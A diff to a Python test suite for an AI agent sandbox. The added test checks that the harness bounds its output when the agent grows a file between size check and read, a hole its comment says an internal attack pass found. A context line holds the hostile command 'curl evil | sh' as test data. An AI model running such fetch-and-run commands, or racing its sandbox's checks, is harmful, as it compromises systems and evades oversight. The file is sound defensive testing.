@@ -169,6 +169,38 @@ def test_changed_files_are_what_apply_writes_even_when_the_agent_fakes_its_reads
     assert (target / "deploy.sh").read_bytes() == b"curl evil | sh\n"
 
 
+def test_changed_files_stays_within_max_output_when_the_agent_grows_a_file_meanwhile(make_sandbox):
+    # The sizes are checked against max_output from changes(); the contents
+    # come from a second read (show --contents) of the running session. The
+    # agent's code runs meanwhile: found by the attack pass of 27 Nov, a file
+    # it made huge (sparse: no disk) between the two was read whole into
+    # this process (here 64 MiB of base64 for max_output=1 MiB; gigabytes
+    # just as easily). The second read is bounded too.
+    sb = make_sandbox(max_output=1024 * 1024)
+    sb.exec(["sh", "-c", "echo small > grow.bin"], check=True)
+    real_changes = sb.changes
+
+    def changes_then_the_agent_writes(*a, **kw):
+        got = real_changes(*a, **kw)
+        sb.exec(["truncate", "-s", "48M", "grow.bin"], check=True)  # what a thread inside does at any time
+        return got
+
+    sb.changes = changes_then_the_agent_writes
+    peak = [0]
+    real_run = sb.helper.run
+
+    def run(args, **kw):
+        r = real_run(args, **kw)
+        peak.append(len(r.stdout or b""))
+        return r
+
+    sb.helper.run = run
+    with pytest.raises(SandboxError, match="max_output"):
+        sb.changed_files()
+    assert max(peak) <= 4 * 1024 * 1024, peak
+    assert sb.running
+
+
 def test_apply_writes_the_real_target(sb, target):
     sb.exec(["sh", "-c", "echo made > made.txt; rm old.txt; echo v2 > src/app.py"], check=True)
     result = sb.apply()
